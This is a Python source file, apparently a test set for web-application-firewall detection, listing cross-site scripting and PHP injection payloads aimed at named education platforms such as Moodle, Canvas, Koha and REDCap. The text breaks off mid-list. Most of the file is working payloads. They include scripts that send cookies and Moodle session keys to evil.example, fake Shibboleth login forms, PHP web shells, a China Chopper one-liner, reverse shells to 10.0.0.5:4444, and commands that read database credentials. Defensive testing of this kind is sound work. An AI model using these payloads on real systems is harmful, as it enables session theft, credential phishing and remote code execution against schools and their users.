"""Blind set "twohundredtwentieth": cross-site scripting and PHP injection the way they are aimed at the software of
schools, universities and research institutes, with benign requests that carry the same words innocently.

The angle: education and research platforms, recalled from memory. Each payload is written for a named system and
the field or parameter it really takes input in: learning management systems (Moodle, Canvas, Blackboard Learn,
Sakai, ILIAS, Chamilo) with their quiz, gradebook, forum and plugin pages; student information systems and
enrolment portals; library catalogues and discovery layers (Koha OPAC, EZproxy, VuFind); institutional repositories
(DSpace, EPrints, Omeka); JupyterHub and notebook servers; HPC portals (Open OnDemand, Slurm REST, Open XDMoD);
plagiarism and proctoring integrations; LTI launches; SAML/Shibboleth and SimpleSAMLphp login pages; conference and
journal submission systems (OJS, HotCRP); survey and research-data tools (LimeSurvey, REDCap); and the wikis and
CMSes universities run (MediaWiki, Drupal, WordPress, HumHub). Each group of payloads carries a comment naming its
family, the system and the target (the browser of the page's reader, the PHP interpreter, the shell behind it, a
PHP framework's gadget classes, the web server's PHP handler).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
    html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace /e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file,
    allow_url_include), superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Field names follow the category (search, returnurl, summary for
cross-site scripting; file, page, formula, template for PHP). Upload names go as the file name of the admin import
(and of a suite's upload), carrying a GIF-headed web shell, or the .htaccess / .user.ini line the name implies.
register_globals and PHP-CGI argument payloads written as `name=value` go unquoted (form, raw body, query string);
the CVE-2024-4577 soft hyphen goes as the single byte 0xAD; the Drupal REST exploit goes as the whole JSON body.
Payloads with control characters (NUL in protected property names, newlines, tabs) never go into headers, cookies
or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
named products as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put
from .records import print_records

NAME = "twohundredtwentieth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
KV = ("form", "rs-raw-body")   # a `name=value` pair as a form body
QS = ("query", "rs-query")   # a `name=value` (or PHP-CGI argument) query string
UP = ("multipart-filename", "rs-multipart-filename")   # an upload's file name
JB = ("json-body", "rs-json-body")   # the whole JSON body


def kv(payload: str) -> tuple[str, str, str]:
    return (payload, *KV)


def qs(payload: str) -> tuple[str, str, str]:
    return (payload, *QS)


def up(payload: str) -> tuple[str, str, str]:
    return (payload, *UP)


# ================================================================================================================
# XSS (target: the browser of whoever opens the page: a teacher grading, a librarian, an admin, a reviewer)
# ================================================================================================================

# libinjection-xss: short break-outs from a quoted attribute or a text node where a platform echoes a field back
LIBINJECTION: list[Entry] = [
    # Moodle course search (course/search.php?search=): the term is echoed into the results heading; M.cfg.sesskey
    # is the CSRF token every Moodle page carries
    '"><script>alert(M.cfg.sesskey)</script>',
    "</h2><script>new Image().src='//evil.example/m?'+M.cfg.sesskey</script>",
    # Canvas discussion topic title shown in the course activity stream: ENV holds the current user
    "'><img src=x onerror=alert(ENV.current_user_id)>",
    '"><img src=x onerror="fetch(`/api/v1/users/self/profile`).then(r=>r.text()).then(alert)">',
    # Blackboard Learn announcement subject on the course entry page
    '"><svg onload=alert(document.domain)>',
    # Sakai forum message body: the session JSON of the /direct API read and sent off
    "</textarea><script>fetch('/direct/session/current.json').then(r=>r.text()).then(t=>alert(t))</script>",
    # Koha OPAC: q= is reflected in the "Your search returned" line of opac-search.pl
    '"><body onload=alert(document.cookie)>',
    "<img src=x onerror=alert(1)//",
    # EZproxy login page: url= is echoed into the hidden field of the login form
    '" autofocus onfocus=alert(document.cookie) x="',
    # DSpace discovery (query=) echoed into the value of the search box
    "x' onmouseover='alert(1)' y='",
    # Open Journal Systems: an author affiliation shown on the article landing page
    "<b onmouseover=alert(document.domain)>Dept. of Physics</b>",
    # JupyterHub /hub/login?next= echoed into the login form's action attribute
    '"><script>alert(document.cookie)</script><x y="',
    # Chamilo profile first name, 40 characters at most: the shortest vectors
    "<svg/onload=alert`1`>",
    "<details open ontoggle=alert(1)>",
    # Omeka Classic item title in the admin "Browse Items" table
    "<script src=//evil.example/o.js></script>",
    # EPrints abstract field rendered on the abstract page
    "<a href=javascript:alert(document.cookie)>Full text (PDF)</a>",
    # Open OnDemand Active Jobs table: the Slurm job name (sbatch -J) is shown to the user and to admins
    "job_<img src=x onerror=alert(document.domain)>",
    # ILIAS mail subject echoed into the inbox list
    "'\"><img src=/ onerror=alert(il)>",
    # VuFind lookfor= reflected into the "no results" message
    "</span><script>alert(document.domain)</script>",
    # HotCRP paper title shown in the reviewer's paper list
    "Deep Nets<iframe/onload=alert(hotcrp)>",
]

# script-tag: a <script> element planted where a teacher, grader or admin will open it
SCRIPT: list[Entry] = [
    # Moodle quiz essay answer, opened by the teacher in "Manual grading": steal the sesskey and the session cookie
    "<script>fetch('//evil.example/q?k='+M.cfg.sesskey+'&c='+document.cookie)</script>",
    "<script>document.location='https://evil.example/c?'+document.cookie</script>",
    # Moodle forum post: make the viewing admin an admin's session do a site-admin action with its sesskey
    "<script>fetch('/admin/roles/admins.php?sesskey='+M.cfg.sesskey+'&confirmadd=1337',"
    "{credentials:'include'})</script>",
    # Canvas page body (when the rich content editor is bypassed through the API): a BeEF hook
    '<script src="https://evil.example/hook.js"></script>',
    # Blackboard Learn discussion post
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    # Sakai filters <script> once and not recursively: the nested tag survives the strip
    "<scr<script>ipt>alert(document.cookie)</scr</script>ipt>",
    '<script type="text/javascript">alert(document.domain)</script>',
    # ILIAS learning module page: base64 hides the payload from a keyword filter
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    "<script>new Image().src='//evil.example/k?c='+encodeURIComponent(document.cookie)</script>",
    # Canvas embeds ENV as JSON inside a <script> block: closing it ends the block and opens a new one
    "</script><script>alert(ENV.current_user_id)</script>",
    # Chamilo admin announcement: read the user list page and post it out
    "<script>fetch('/main/admin/user_list.php').then(r=>r.text()).then(t=>fetch('//evil.example/u',"
    "{method:'POST',body:t}))</script>",
    "<ScRiPt>prompt(document.domain)</sCrIpT>",
    "<script>setTimeout('alert(document.cookie)',0)</script>",
    "<script>Function('alert(document.domain)')()</script>",
    "<script src=data:text/javascript,alert(document.domain)></script>",
    "<script>import('//evil.example/m.js')</script>",
    "<script/src=//evil.example/x></script>",
    # reverse tabnabbing to a fake Shibboleth IdP page from a link in a course page
    "<script>opener.location='https://evil.example/idp/profile/SAML2/Redirect/SSO'</script>",
    # Sakai Sign-up tool meeting description: the session id of /direct sent to the attacker
    "<script>eval(atob('ZmV0Y2goJy9kaXJlY3Qvc2Vzc2lvbi9jdXJyZW50Lmpzb24nKS50aGVuKHI9PnIudGV4dCgpKS50aGVuKHQ9Pm5hdmln"
    "YXRvci5zZW5kQmVhY29uKCcvL2V2aWwuZXhhbXBsZS9zJyx0KSk='))</script>",
    # LimeSurvey question text shown to every respondent
    "<script>document.forms[0].action='//evil.example/collect'</script>",
]

# event-handler: handlers that fire without a <script> element (gradebook comments, feedback, quiz hints)
EVENT: list[Entry] = [
    # Canvas SpeedGrader submission comment, fires when the teacher opens the submission
    "<img src=x onerror=this.src='//evil.example/?'+document.cookie>",
    "<body onpageshow=alert(document.domain)>",
    "<video><source onerror=alert(document.cookie)>",
    "<audio src=x onerror=alert(document.domain)>",
    # Moodle assignment feedback comment
    "<input autofocus onfocus=alert(M.cfg.sesskey)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    "<marquee onstart=alert(document.domain)>Deadline extended</marquee>",
    # Moodle quiz hint in a multiple-choice question: fires when the student hovers over it
    "<div onpointerover=alert(document.cookie)>Hover for a hint</div>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>",
    "<body onhashchange=alert(document.domain)><a href=#x>x</a>",
    "<details ontoggle=alert(document.cookie) open>",
    "<img src=x:x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "<iframe onload=alert(document.domain)>",
    "<object data=x onerror=alert(1)>",
    "<x onclick=alert(document.cookie)>Click to reveal the answer</x>",
    # online proctoring integration: an answer box that fires when the student copies from it
    "<p oncopy=alert(document.cookie)>Copy this answer into the box</p>",
    # certificate page (Moodle customcert / Canvas): fires when the learner prints it
    "<body onbeforeprint=alert(document.domain)>",
    "<div onwheel=alert(1) style=height:3000px>Scroll down for the rubric</div>",
    "<img src=x onerror=top['al'+'ert'](document.domain)>",
]

# attribute-vector: the payload lives in src, href, style, formaction, srcdoc, data
ATTRIBUTE: list[Entry] = [
    # Moodle quiz attempt page: a button inside the question text submits the attempt elsewhere
    "<form><button formaction=javascript:alert(document.cookie)>Submit all and finish</button></form>",
    # Shibboleth IdP look-alike: the button posts the surrounding login form to the attacker
    "<form id=f></form><button form=f formaction=//evil.example/idp/Authn/UserPassword>Continue</button>",
    "<input type=submit formaction=javascript:alert(document.domain) value=Enrol>",
    # quoted-attribute break-outs: Canvas assignment name in the gradebook column header's title attribute
    '" onfocus=alert(document.cookie) autofocus x="',
    "' style='position:fixed;top:0;left:0;width:100%;height:100%' onmouseover='alert(1)",
    '" src=x onerror=alert(document.domain) "',
    # Blackboard content item link
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>Lecture 3 slides</a>",
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\"></iframe>",
    '<object data="data:text/html,<script>alert(document.domain)</script>"></object>',
    # dangling markup: the rest of the page (with the Moodle sesskey) becomes part of the image URL
    "<img src='//evil.example/leak?html=",
    '<a href="//evil.example/collect?x=',
    # Canvas user avatar URL reflected as a style attribute: a full-page clickjacking overlay
    '" style="position:fixed;z-index:9999;top:0;left:0;width:100%;height:100%" onclick="alert(document.cookie)',
    "<embed src=javascript:alert(document.domain)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a href=\"javascript:alert(document.cookie)\" target=_self>Course syllabus</a>",
    "<link rel=import href=//evil.example/x.html>",
    "<video poster=javascript:alert(1)>",
    "<img src=x onerror=alert(1) srcset=x>",
    # ILIAS user profile "web site" field rendered as a link
    '<a href="  javascript:alert(document.domain)">My homepage</a>',
    "<iframe src=//evil.example/moodle/login/index.php style=border:0;width:100%;height:100%></iframe>",
]

# javascript-uri: javascript:/vbscript:/data: URLs put where a platform renders a link or redirects
JSURI: list[Entry] = [
    # Moodle URL resource (mod/url externalurl) and the returnurl of many Moodle pages
    "javascript:alert(M.cfg.wwwroot)",
    "javascript:fetch('/login/logout.php?sesskey='+M.cfg.sesskey)",
    "JaVaScRiPt:alert(document.cookie)",
    # a JavaScript comment, then a newline: passes a check that the URL "starts with //"
    "javascript://moodle.example.edu/%0Aalert(document.domain)",
    "javascript://x\nalert(document.cookie)",
    # browsers drop tabs and leading control characters inside a URL scheme
    "java\tscript:alert(document.domain)",
    "\x01javascript:alert(document.cookie)",
    "javascript:void(document.body.innerHTML='<h1>Exam cancelled, see evil.example</h1>')",
    # EZproxy login?url= and Shibboleth target= / SAML RelayState: the post-login redirect
    "javascript:alert(document.domain)//login",
    "javascript:location='//evil.example/?'+document.cookie",
    # LTI 1.1 launch: launch_presentation_return_url followed by the tool consumer after the tool closes
    "javascript:alert(document.cookie)//lti_msg=done",
    '<a href="javascript:alert(document.domain)">Lecture notes</a>',
    "<iframe src=javascript:alert(document.cookie)>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "vbscript:msgbox(document.cookie)",
    "data:text/html,<script>alert(document.domain)</script>",
    "javascript:alert%28document.cookie%29",
    "javascript:window.opener.location='//evil.example/login'",
    "javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))",
    "javascript:top.document.forms[0].submit()",
]

# html-injection: frames, objects, base, meta, link and forms that phish or re-point the page (no script needed)
HTML: list[Entry] = [
    # Moodle forum post: a full-page frame of a fake login
    "<iframe src=//evil.example/moodle-login.html width=100% height=900 frameborder=0></iframe>",
    # Canvas page: relative script URLs now load from the attacker
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/Shibboleth.sso/Login">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<embed src=//evil.example/x.svg type=image/svg+xml>",
    "<object data=//evil.example/x.html type=text/html></object>",
    # a fake Shibboleth session-expired form in a Blackboard announcement
    "<form action=https://evil.example/idp/Authn/UserPassword method=post>Your session expired, sign in again:"
    "<input name=j_username><input name=j_password type=password><input type=submit value=Login></form>",
    "<frameset><frame src=//evil.example/></frameset>",
    "<applet code=Exploit.class codebase=//evil.example/></applet>",
    "<portal src=//evil.example/></portal>",
    # session fixation through a meta element (old browsers): a MoodleSession chosen by the attacker
    '<meta http-equiv="Set-Cookie" content="MoodleSession=attackerchosen; path=/">',
    # dangling form: the rest of the page, with its sesskey and CSRF tokens, is posted to the attacker
    "<form action=//evil.example/steal method=post><textarea name=page>",
    # DOMPurify-era noscript mutation: the attribute becomes markup once parsed with scripting on
    '<noscript><p title="</noscript><img src=x onerror=alert(document.cookie)>">',
    "<object type=application/x-shockwave-flash data=//evil.example/x.swf>"
    "<param name=allowScriptAccess value=always></object>",
    "<embed code=//evil.example/x.swf allowscriptaccess=always>",
    # Koha OPAC news item: a fake "renew your library card" form
    "<form action=//evil.example/renew><input name=cardnumber placeholder=Card number>"
    "<input name=pin type=password><button>Renew</button></form>",
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<iframe src=/admin/user.php onload=alert(this.contentDocument.body.innerText)></iframe>",
    "<link rel=preload as=script href=//evil.example/x.js onload=alert(document.domain)>",
    # full page URL (Moodle puts sesskey in many GET links) leaked to the attacker as a Referer
    "<meta name=referrer content=unsafe-url><link rel=prefetch href=//evil.example/r>",
]

# svg-mathml: SVG and MathML (Moodle's TeX/MathJax filters, uploaded SVG files in DSpace/Omeka, Canvas equations)
SVG: list[Entry] = [
    "<svg onload=alert(document.domain)>",
    "<svg><script>alert(document.cookie)</script></svg>",
    "<svg><script href=data:,alert(document.domain) />",
    "<svg><animate onbegin=alert(document.cookie) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open the dataset</text></a>"
    "</svg>",
    "<svg><foreignObject><iframe src=javascript:alert(document.domain)></iframe></foreignObject></svg>",
    # Omeka / DSpace: an uploaded SVG bitstream served inline from the repository's own origin
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('/server/api/authn/status').then(r=>r.text())"
    ".then(alert)</script></svg>",
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(document.cookie)">'
    "<rect width=100 height=100 /></a></svg>",
    "<svg><image href=x onerror=alert(document.domain)>",
    "<svg><discard onbegin=alert(document.cookie)>",
    "<svg><set attributeName=onmouseover to=alert(1) /><rect width=500 height=500 /></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0n"
    "YWxlcnQoZG9jdW1lbnQuZG9tYWluKScvPg==#x\"></use></svg>",
    # DOMPurify 2.0 mutation through MathML and SVG namespaces
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
    'onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(document.cookie)>">',
    # MathML annotation-xml with an HTML encoding is an HTML integration point
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(document.domain)></annotation-xml>'
    "</math>",
    "<math href=javascript:alert(document.cookie)>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>Click for the proof</maction></math>",
    # Moodle / Canvas MathJax: \href in a TeX expression when the safe extension is off
    "$$\\href{javascript:alert(document.cookie)}{\\text{click for the solution}}$$",
    "\\(\\unicode{<img src=x onerror=alert(1)>}\\)",
]

# css-expression: IE expression(), url(javascript:), -moz-binding, behavior, @import, CSS data theft
CSS: list[Entry] = [
    '<div style="width:expression(alert(document.cookie))">',
    '<p style="color:expression(alert(document.domain))">Reading list</p>',
    "<style>body{background:url(\"javascript:alert(document.cookie)\")}</style>",
    '<div style="-moz-binding:url(//evil.example/xss.xml#x)">',
    '<div style="behavior:url(//evil.example/x.htc)">',
    "<style>@import'//evil.example/x.css';</style>",
    # CSS attribute selectors leak Moodle's sesskey one character at a time, no script at all
    "<style>input[name=sesskey][value^=a]{background:url(//evil.example/a)}</style>",
    '<x style="xss:expr/**/ession(alert(1))">',
    '<div style="xss:\\65xpression(alert(document.cookie))">',
    '<img style="x:expression(alert(document.domain))" src=x>',
    "<style>*{x:expression(alert(1))}</style>",
    '<link rel=stylesheet href="javascript:alert(document.cookie)">',
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>Week 1</li></ul>",
    '<div style="background:url(vbscript:msgbox(document.cookie))">',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<div style=" width: exp/**/ression(alert(document.domain))">',
    '<table style="background:url(javascript:alert(1))"><tr><td>Gradebook</td></tr></table>',
    # Moodle theme settings (Boost "Raw SCSS"): close the style element the custom CSS is printed into
    "</style><script>alert(M.cfg.sesskey)</script>",
    "a{-o-link:'javascript:alert(1)';-o-link-source:current}",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}body{font-family:x}</style>"
    "<style>input[name=csrftoken][value^=b]{background:url(//evil.example/b)}</style>",
]

# template-literal/dom-sink: strings that end a JavaScript string or template and reach eval/innerHTML/location
DOM: list[Entry] = [
    # reflected into a template literal of an inline script (Canvas bundles, Moodle js_call_amd arguments)
    "${alert(document.domain)}",
    "`-alert(document.cookie)-`",
    "${document.location='//evil.example/?c='+document.cookie}",
    # Moodle $PAGE->requires->js_init_code with a single-quoted string
    "'-alert(M.cfg.sesskey)-'",
    "\";alert(document.cookie);//",
    "\\';alert(document.domain);//",
    "'+alert(1)+'",
    "';window.location='//evil.example/?'+document.cookie;'",
    "-alert(document.domain)-",
    ");alert(document.cookie);//",
    "\"}]);alert(document.domain);//",
    # ENV/JSON embedded in a script block: the HTML parser ends the script first
    "</script><img src=x onerror=alert(document.cookie)>",
    # Sakai tool hash routes and Jupyter's tree view read location.hash into innerHTML
    "#<img src=x onerror=alert(document.domain)>",
    "#\"><img src=/ onerror=alert(document.cookie)>",
    # </title> of an Omeka item page (the title is echoed into <title> and into a JS variable)
    "</title><script>alert(document.domain)</script>",
    # client-side prototype pollution to a script gadget (jQuery/sanitizer options read from Object.prototype)
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    qs("__proto__[srcdoc][]=<script>alert(document.domain)</script>"),
    # Canvas LTI postMessage: a tool frame asks the parent window to open a URL full-window
    '{"subject":"requestFullWindowLaunch","data":"javascript:alert(document.cookie)"}',
    # JupyterLab / classic notebook output: an HTML output cell rendered by an untrusted notebook
    '{"output_type":"display_data","data":{"text/html":"<img src=x onerror=alert(document.cookie)>"},'
    '"metadata":{}}',
    "eval(location.hash.slice(1))//#alert(document.cookie)",
]

# ie-filter-style: the old Internet Explorer vectors (vbscript, dynsrc, data binding, conditional comments)
IE: list[Entry] = [
    '<a href="vbscript:msgbox(document.cookie)">Open gradebook</a>',
    '<img dynsrc="javascript:alert(document.cookie)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(document.domain);">',
    '<br size="&{alert(document.cookie)}">',
    '<layer src="//evil.example/x.html"></layer>',
    "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>"
    "<span datasrc=#x datafld=b dataformatas=html></span>",
    '<comment><img src="</comment><img src=x onerror=alert(document.cookie)//">',
    '<![><img src="]><img src=x onerror=alert(document.domain)//">',
    "<!--[if gte IE 4]><script>alert(document.cookie)</script><![endif]-->",
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    "<script language=vbscript>msgbox document.cookie</script>",
    '<a href="#" language=vbs onclick="msgbox 1">Syllabus</a>',
    "<input type=image src=javascript:alert(document.cookie)>",
    '<td background="javascript:alert(document.domain)">',
    '<meta http-equiv="Link" content="<//evil.example/x.css>; REL=stylesheet">',
    '<html xmlns:xss><?import namespace=xss implementation="//evil.example/x.htc"><xss:xss>x</xss:xss></html>',
    "<iframe src=vbscript:msgbox(document.cookie)>",
    "<img src=`javascript:alert(document.domain)`>",
    '<body background="javascript:alert(document.cookie)">',
]

# encoded-entity: HTML entities, JavaScript escapes, percent and UTF-7 encodings a decoder unwraps before render
ENCODED: list[Entry] = [
    # Blackboard decodes entities in the announcement subject before printing it (double decode)
    "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
    "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Transcript</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(document.cookie)">x</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    '<a href="javascript&colon;alert&lpar;document.domain&rpar;">Grades</a>',
    '<a href="jav&Tab;ascript:alert(document.cookie)">Reading list</a>',
    '<a href="java&NewLine;script:alert(1)">Week 5</a>',
    # a JavaScript string later assigned to innerHTML (Canvas/Sakai client code)
    "\\x3cscript\\x3ealert(document.cookie)\\x3c/script\\x3e",
    "\\u003csvg onload=alert(document.domain)\\u003e",
    "<img src=x onerror=\\u0061lert(document.cookie)>",
    # UTF-7 when the page has no charset and an old IE sniffs it
    "+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
    "<svg onload=&#x61;&#x6C;&#x65;&#x72;&#x74;(document.domain)>",
    '<a href="javascript:%61%6c%65%72%74%28document.cookie%29">x</a>',
    '<iframe src="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></iframe>',
    "&#60;img src=x onerror=alert(document.domain)&#62;",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "%C0%BCscript%C0%BEalert(document.cookie)%C0%BC/script%C0%BE",
    # JupyterHub normalises user names with NFKC: full-width brackets become < and > after normalisation
    "\uff1cscript\uff1ealert(document.domain)\uff1c/script\uff1e",
]

# angular-vue-template: client-side template expressions in pages that mount AngularJS, Vue, Alpine or Moodle's
# own client-side Mustache renderer over server-rendered user text
ANGULAR: list[Entry] = [
    "{{constructor.constructor('alert(document.cookie)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
    "<div ng-app>{{$eval.constructor('alert(document.cookie)')()}}</div>",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "<div ng-app ng-init=\"a=constructor.constructor('alert(document.domain)')()\"></div>",
    "{{[].pop.constructor('alert(document.cookie)')()}}",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    "<div ng-include=\"'//evil.example/x.html'\"></div>",
    # Vue 2 / Vue 3 in-DOM templates (ILIAS and Open edX front ends, many departmental sites)
    "{{_c.constructor('alert(document.cookie)')()}}",
    "{{$el.ownerDocument.defaultView.alert(document.domain)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<img src @error=\"$event.target.ownerDocument.defaultView.alert(document.cookie)\">",
    "{{_openBlock.constructor('alert(document.domain)')()}}",
    "{{this.constructor.constructor('alert(document.cookie)')()}}",
    # Alpine.js x-init on a department CMS
    "<div x-data x-init=\"alert(document.cookie)\"></div>",
    # Moodle's client-side Mustache helper runs the body of {{#js}} as JavaScript
    "{{#js}}alert(M.cfg.sesskey){{/js}}",
    "<div data-bind=\"html:'<img src=x onerror=alert(document.domain)>'\"></div>",
]

# ================================================================================================================
# PHP (target: the PHP interpreter of a PHP platform, and through it the shell, files and database behind it)
# ================================================================================================================

# php-open-tag: PHP code with its open tag, aimed at a place that ends up included or written to a .php file
# (a language customisation, an install/config writer, a log file later included, a theme template, an avatar)
OPEN_TAG: list[Entry] = [
    # Moodle language customisation (tool_customlang) writes strings into PHP files under moodledata/lang
    "<?php system($_GET['cmd']); ?>",
    "<?= `id` ?>",
    "<? passthru($_REQUEST['c']); ?>",
    # PHP 5 only: the script-language and ASP open tags (old Chamilo / Dokeos installs)
    '<script language="php">system("id");</script>',
    "<% system('uname -a'); %>",
    "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>",
    "<?php file_put_contents('s.php','<?php system($_GET[0]);'); ?>",
    "<?php phpinfo(); ?>",
    # Moodle config.php holds $CFG->dbpass: read it from a file included out of moodledata
    "<?php echo file_get_contents('../config.php'); ?>",
    "<?php\nsystem('cat /etc/passwd');",
    "<?=system('cat /etc/passwd')?>",
    # LimeSurvey survey theme template edited through the theme editor
    "<?php echo shell_exec('id; uname -a'); ?>",
    # Apache access log poisoning through the User-Agent, then the log is included (ILIAS / old Chamilo LFI)
    "<?php system($_GET['c']);?>",
    "<?php $s=fsockopen('10.0.0.5',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?php include($_GET['f']); ?>",
    # China Chopper one-liner planted in an OJS plugin directory
    "<?php @eval($_POST['pass']);?>",
    "GIF89a;<?php system($_GET['c']); ?>",
    "<?php mail('x@evil.example','cfg',file_get_contents('config.inc.php'));?>",
    # REDCap database.php holds the MySQL credentials
    "<?php readfile('/var/www/redcap/database.php'); ?>",
    "<?php copy('http://evil.example/s.txt','/var/www/html/pix/s.php'); ?>",
    "<?PHP echo exec('whoami'); ?>",
    "<?php\r\npassthru('ls -la /var/www/moodledata');\r\n?>",
    "<?= include $_GET['p'] ?>",
    "<?php echo '<pre>'.shell_exec($_GET['q']).'</pre>'; __halt_compiler();",
    "<?php @assert($_REQUEST['a']); ?>",
    "<?php $c=$_COOKIE['c'];echo `$c`; ?>",
    "<?php\tsystem('id');",
]

# php-function-call: code-injection strings that call a command or code runner (where input reaches eval(), a
# generated config file, a calculated-question formula, or mail()'s fifth argument)
FUNCTION_CALL: list[Entry] = [
    # Moodle calculated question: the formula ends up in eval('$str = ' . $formula . ';')
    "1);system('id');//",
    "{a}+(1)+system('cat /var/www/moodle/config.php')",
    "exec('wget http://evil.example/s -O /tmp/s; sh /tmp/s')",
    "passthru('id')",
    "shell_exec('uname -a')",
    "popen('id','r')",
    "proc_open('id',[1=>['pipe','w']],$p)",
    # PHP 5/7: assert() with a string evaluates it
    "assert('system(\"id\")')",
    "eval($_POST[1])",
    "create_function('','system(\"id\");')",
    "create_function('$a','}system(\"id\");/*')",
    # preg_replace with the /e modifier (PHP < 7): the replacement is evaluated (old Chamilo / ATutor search)
    "preg_replace('/.*/e','system(\"id\")','x')",
    kv("pattern=/.*/e&replacement=system('id')&subject=x"),
    "mb_ereg_replace('.+','system(\"id\")','x','e')",
    # Chamilo installer writes the database name into configuration.php inside single quotes
    "';system($_GET['c']);$x='",
    # double-quoted eval: complex variable syntax runs code during string interpolation
    "\".system('id').\"",
    "${system('id')}",
    "1;phpinfo()",
    "pcntl_exec('/bin/sh',['-c','id'])",
    # Roundcube (campus webmail) / PHPMailer: the fifth argument of mail() reaches sendmail's command line
    "mail('a@example.edu','x','<?php system($_GET[0]);?>','','-X/var/www/html/s.php')",
    "die(system('id'))",
    "exit(passthru('ls -la /var/www/moodledata'))",
    "system(base64_decode('aWQ='))",
    "echo shell_exec($_GET['cmd']);",
    "exec('bash -c \"bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\"')",
    "ob_start('system');echo 'id';ob_end_flush();",
    "register_shutdown_function('system','id');",
]

# php-variable-functions: the function name comes from a variable, a string expression or the request
VARFUNC: list[Entry] = [
    "$_GET['f']($_GET['a'])",
    "$a='sys'.'tem';$a('id');",
    "$f=strrev('metsys');$f('id');",
    "${'_GET'}[0](${'_GET'}[1])",
